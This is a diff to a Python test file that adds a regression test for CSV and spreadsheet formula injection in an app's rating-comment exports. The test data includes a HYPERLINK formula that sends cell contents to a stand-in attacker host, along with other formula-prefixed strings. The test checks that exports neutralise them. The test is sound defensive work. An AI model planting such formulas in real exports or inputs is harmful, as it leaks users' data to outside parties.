@@ -1,6 +1,10 @@
 """Satisfaction ratings: the public endpoint (code + PIN), once per case, once returned."""
 
+import csv
+import io
+
 import pytest
+from openpyxl import load_workbook
 
 from cases import services
 from reports.models import Rating
@@ -82,3 +86,28 @@ def test_supervisors_read_the_ratings(file_case, staff, client_for):
         (case.code, "satisfied", "Nhanh")
     ]
     assert client_for(staff["counter"]).get("/api/v1/reports/ratings/").status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize("comment", [FORMULA, "+1+1", "-2+3", "@SUM(A1)"])
+def test_a_comment_that_looks_like_a_formula_is_exported_as_text(
+    file_case, staff, client_for, comment
+):
+    """Regression (OWASP CSV injection): a rating comment starting with `=` was a live
+    formula in the ratings XLSX and written raw into the CSV."""
+    case, pin = returned_case(file_case, staff)
+    rate(client_for(), case, pin, {"rating": "not_satisfied", "comment": comment})
+    kept = Rating.objects.get(case=case).comment  # without the spaces around it
+    client = client_for(staff["supervisor"])
+
+    answer = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert [row["comment"] for row in rows] == ["'" + kept]
+
+    answer = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01", "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(answer.content)).active
+    header, row = [[(cell.value, cell.data_type) for cell in r] for r in sheet.iter_rows()]
+    assert row[[value for value, _ in header].index("comment")] == ("'" + kept, "s")
+    assert [kind for _, kind in row if kind == "f"] == []
